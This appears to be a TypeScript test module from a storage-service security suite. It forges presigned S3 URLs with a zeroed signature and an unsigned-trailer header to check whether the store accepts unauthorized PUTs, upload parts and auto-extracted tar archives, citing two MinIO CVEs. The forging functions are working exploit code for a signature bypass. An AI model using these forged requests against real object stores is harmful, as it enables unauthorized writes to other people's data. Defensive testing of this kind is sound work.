/**
 * Requests with a false signature. MinIO's last open release takes some of them from anybody who
 * knows an access key, and every signed URL names one: CVE-2026-41145 (a PUT with its credential in
 * the query) and CVE-2026-40344 (an archive that the store unpacks). Both need one header,
 * `x-amz-content-sha256: STREAMING-UNSIGNED-PAYLOAD-TRAILER`; docs/security.md says what to do.
 */
import assert from 'node:assert/strict';
import { quickSum } from '../quick-sums.ts';
import { download, MIB, random } from '../s3/uploads.ts';
import type { Attack } from './attack.ts';
import { assertReason, met, readStoreAnswer, type StoreAnswer } from './refusals.ts';
import { bent, fresh, pathOf, signedPart, type Scene } from './scene.ts';

export const UNSIGNED_TRAILER = 'STREAMING-UNSIGNED-PAYLOAD-TRAILER';
export const SNOWBALL = 'x-amz-meta-snowball-auto-extract';

/** What became of one forged request. */
export interface Forged {
  readonly cve: string;
  /** The store did what the request said. */
  readonly stored: boolean;
  readonly answer: StoreAnswer;
}

/** A signed URL of Mallory's own, aimed at another key; nobody has signed that. */
export function forgedUrl(scene: Scene, key: string): string {
  return bent(scene.link, (url) => {
    url.pathname = pathOf(scene, key);
    url.searchParams.delete('response-content-disposition');
    url.searchParams.delete('response-content-type');
    url.searchParams.set('X-Amz-Signature', '0'.repeat(64));
  });
}

/** A body as the header announces it: one chunk, and no trailer. */
export function chunked(body: Uint8Array): Uint8Array<ArrayBuffer> {
  const size = Buffer.from(`${body.length.toString(16)}\r\n`);
  return new Uint8Array(Buffer.concat([size, body, Buffer.from('\r\n0\r\n\r\n\r\n')]));
}

/** An archive of one file. */
export function tar(name: string, body: Uint8Array): Uint8Array<ArrayBuffer> {
  const head = Buffer.alloc(512);
  head.write(name, 0);
  head.write('0000644\0', 100);
  head.write(octal(body.length), 124);
  head.write(octal(0), 136);
  head.write('        ', 148);
  head.write('0', 156);
  head.write('ustar\x0000', 257);
  const sum = head.reduce((total, byte) => total + byte, 0);
  head.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
  const padding = Buffer.alloc((512 - (body.length % 512)) % 512);
  return new Uint8Array(Buffer.concat([head, body, padding, Buffer.alloc(1024)]));
}

function octal(value: number): string {
  return `${value.toString(8).padStart(11, '0')}\0`;
}

/** Forges a new object beside Alice's, a part of an upload, and an archive that is unpacked. */
export async function forge(scene: Scene): Promise<Forged[]> {
  return [await forgeObject(scene), await forgePart(scene), await forgeArchive(scene)];
}

async function forgeObject(scene: Scene): Promise<Forged> {
  const { hers } = scene;
  const key = `${hers.done.key}-forged`;
  const body = random(100);
  const headers = trailerHeaders(body);
  const sent = fetch(forgedUrl(scene, key), { method: 'PUT', headers, body: chunked(body) });
  const answer = await readStoreAnswer(sent);
  return { cve: 'CVE-2026-41145', stored: await takeAway(scene, key, body), answer };
}

async function forgePart(scene: Scene): Promise<Forged> {
  const { mallory } = scene;
  const { upload, body } = await fresh(scene, 6 * MIB);
  const request = await signedPart(mallory, upload, body, 1);
  const other = random(100);
  const url = bent(request.url, (to) => to.searchParams.set('X-Amz-Signature', '0'.repeat(64)));
  const headers: Record<string, string> = { ...trailerHeaders(other) };
  for (const name of Object.keys(request.headers)) {
    const isChecksum = name.startsWith('x-amz-checksum-') || name === 'content-md5';
    if (isChecksum && upload.checksum !== null) headers[name] = quickSum(upload.checksum, other);
  }
  const answer = await readStoreAnswer(
    fetch(url, { method: 'PUT', headers, body: chunked(other) }),
  );
  const stored = answer.status === 200;
  await mallory.delete(`/uploads/${upload.id}`);
  return { cve: 'CVE-2026-41145', stored, answer };
}

async function forgeArchive(scene: Scene): Promise<Forged> {
  const { hers } = scene;
  const body = random(100);
  const archive = tar('forged', body);
  const headers = {
    ...trailerHeaders(archive),
    [SNOWBALL]: 'true',
    'x-amz-meta-minio-snowball-prefix': `${hers.done.key}-unpacked`,
  };
  const url = forgedUrl(scene, `${hers.done.key}.tar`);
  const answer = await readStoreAnswer(fetch(url, { method: 'PUT', headers, body: archive }));
  const stored = await takeAway(scene, `${hers.done.key}-unpacked/forged`, body);
  return { cve: 'CVE-2026-40344', stored, answer };
}

function trailerHeaders(body: Uint8Array): Record<string, string> {
  return {
    'x-amz-content-sha256': UNSIGNED_TRAILER,
    'x-amz-decoded-content-length': String(body.length),
  };
}

/** Whether the object is there, with these bytes; and removes it. */
export async function takeAway(
  { running }: Scene,
  key: string,
  body: Uint8Array,
): Promise<boolean> {
  if ((await running.store.head(key)) === undefined) return false;
  assert.deepEqual(await download(running, key), body);
  await running.store.remove(key);
  return true;
}

export const forging = {
  async forgedTrailer(scene) {
    const { profile } = scene.running.config;
    const answers: string[] = [];
    for (const { cve, stored, answer } of await forge(scene)) {
      if (stored) {
        // Known of MinIO's last open release, and of no other store.
        assert.equal(profile.name, 'minio', `${cve} on ${profile.name}`);
        answers.push(`KNOWN: ${cve}`);
        continue;
      }
      assertReason(answer, 'authority', 'unsupported');
      answers.push(`store ${answer.status} ${answer.code}`);
    }
    return met(...answers);
  },
} satisfies Record<string, Attack>;
